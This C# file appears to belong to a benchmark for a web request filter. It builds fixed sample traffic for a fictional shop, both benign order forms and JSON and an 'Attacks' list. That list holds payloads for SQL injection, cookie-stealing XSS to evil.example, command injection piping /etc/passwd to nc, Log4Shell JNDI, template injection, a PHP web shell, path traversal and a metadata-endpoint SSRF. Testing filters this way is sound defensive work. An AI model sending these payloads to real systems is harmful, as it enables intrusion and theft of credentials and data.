using System.Globalization;
using System.Text;

namespace Sakimori.Benchmarks.Traffic;

/// <summary>The requests everything is measured with. Fixed: the same bytes in every run.</summary>
internal static class Samples
{
    private const string FormType = "application/x-www-form-urlencoded";

    /// <summary>What a browser sends when a link is followed.</summary>
    public static SampleKind Get { get; } = new("GET", CatalogPage);

    /// <summary>A 2 KB form of an order, twelve fields.</summary>
    public static SampleKind Form { get; } = new("2 KB form", number => Post("", "/order/confirm", FormType, OrderForm(2048, number)));

    /// <summary>A 10 KB document of about 240 arguments.</summary>
    public static SampleKind Json { get; } = new("10 KB JSON", number => Post("", "/api/orders", "application/json", OrderJson(39, number)));

    /// <summary>One form value of 1 MB of prose.</summary>
    public static SampleRequest Text1M { get; } = Text("1 MB text", 1_000_000);

    /// <summary>The three that are sent to both servers.</summary>
    public static SampleKind[] Benign { get; } = [Get, Form, Json];

    /// <summary>One attack of each family, written for this purpose.</summary>
    public static SampleRequest[] Attacks { get; } =
    [
        Attack("SQL injection", "1' UNION SELECT login, password FROM accounts WHERE '1'='1"),
        Attack("cross-site scripting", "<script>document.location='//evil.example/'+document.cookie</script>"),
        Attack("command injection", "127.0.0.1; cat /etc/passwd | nc evil.example 4444"),
        Attack("path traversal", "../../../../../../etc/shadow"),
        Attack("remote inclusion", "http://203.0.113.7/shell.txt?"),
        Attack("template injection", "{{7*7}}${T(java.lang.Runtime).getRuntime().exec('id')}"),
        Attack("PHP injection", "<?php system($_GET['c']); ?>"),
        Attack("Java lookup", "${jndi:ldap://evil.example/a}"),
        Attack("server-side request", "http://169.254.169.254/latest/meta-data/iam/"),
        CatalogPage(0) with { Name = "scanner", Headers = [.. Browser("https://shop.example.jp/").Select(header => header.Name == "User-Agent" ? header with { Value = "sqlmap/1.8 (https://sqlmap.org)" } : header)] },
    ];

    /// <summary>A form of one field of prose, its urlencoded body about so many bytes long.</summary>
    public static SampleRequest Text(string name, int bytes, int seed = 7) => Value(name, Prose.Write(bytes * 96 / 100, seed));

    /// <summary>A form of one field.</summary>
    public static SampleRequest Value(string name, string value) => Post(name, "/board/post", FormType, "message=" + Encode(value));

    /// <summary>A form of so many short fields.</summary>
    public static SampleRequest Fields(int count)
    {
        var random = new Random(count);
        var body = new StringBuilder();
        for (var i = 0; i < count; i++)
        {
            body.Append(i == 0 ? "" : "&").Append("field").Append(i.ToString(CultureInfo.InvariantCulture)).Append('=').Append(Encode(Prose.Words(3, random)));
        }

        return Post(string.Create(CultureInfo.InvariantCulture, $"{count} fields"), "/order/confirm", FormType, body.ToString());
    }

    private static SampleRequest Attack(string family, string value) =>
        CatalogPage(0) with { Name = family, Target = "/catalog/list?category=office&keyword=" + Uri.EscapeDataString(value) };

    private static SampleRequest Post(string name, string target, string type, string body) => new(
        name, "POST", target, [.. Browser("https://shop.example.jp/order/"), ("Origin", "https://shop.example.jp"), ("Content-Type", type)], body);

    private static (string Name, string Value)[] Browser(string referer) =>
    [
        ("Host", "shop.example.jp"),
        ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36"),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
        ("Accept-Language", "ja,en-US;q=0.7,en;q=0.3"),
        ("Accept-Encoding", "gzip, deflate, br"),
        ("Referer", referer),
        ("Cookie", "JSESSIONID=8F2A61C09D4E4B7C9A52D1E0F3B76A18; lang=ja; seen=1042"),
        ("Cache-Control", "max-age=0"),
    ];

    private static SampleRequest CatalogPage(int number)
    {
        var random = new Random(number);
        var target = string.Create(
            CultureInfo.InvariantCulture,
            $"/catalog/list?category=office&page={number + 1}&sort=price&keyword={Encode(Prose.Words(2, random))}&in_stock=1");
        return new("", "GET", target, Browser("https://shop.example.jp/catalog/"));
    }

    private static string OrderForm(int bytes, int number)
    {
        var head = string.Create(
            CultureInfo.InvariantCulture,
            $"customer_code=C-{20418 + number}&department=Purchasing+Dept&person=Sato+Hanako&telephone=03-5555-{1000 + number}&postal_code=100-0005&address=Chiyoda-ku+Marunouchi+1-2-{1 + number}&delivery_date=2026-12-01&item_code=A-{1042 + number}&quantity={12 + number}&unit_price={1980 + number}&payment=invoice&remarks=");
        var remarks = Encode(Prose.Write(bytes, number));
        // Not in the middle of an escape: one that is cut off is an error of the body.
        var length = bytes - head.Length;
        var escape = remarks.LastIndexOf('%', length - 1, 2);
        return head + (escape < 0 ? remarks[..length] : remarks[..escape].PadRight(length, '+'));
    }

    private static string OrderJson(int lines, int number)
    {
        var random = new Random(number);
        var json = new StringBuilder(string.Create(
            CultureInfo.InvariantCulture,
            $$"""{"order":{"number":"PO-2026-{{1000 + number}}","customer":"C-{{20418 + number}}","currency":"JPY","urgent":false,"lines":["""));
        for (var i = 0; i < lines; i++)
        {
            json.Append(i == 0 ? "" : ",").Append(CultureInfo.InvariantCulture,
                $$"""{"sku":"A-{{random.Next(1000, 9999)}}","name":"{{Prose.Words(4, random)}}","quantity":{{random.Next(1, 50)}},"unitPrice":{{random.Next(100, 9000)}},"dueDate":"2026-12-{{random.Next(1, 29):00}}","remarks":"{{Prose.Words(24, random)}}"}""");
        }

        return json.Append("]}}").ToString();
    }

    private static string Encode(string value) => Uri.EscapeDataString(value).Replace("%20", "+", StringComparison.Ordinal);
}
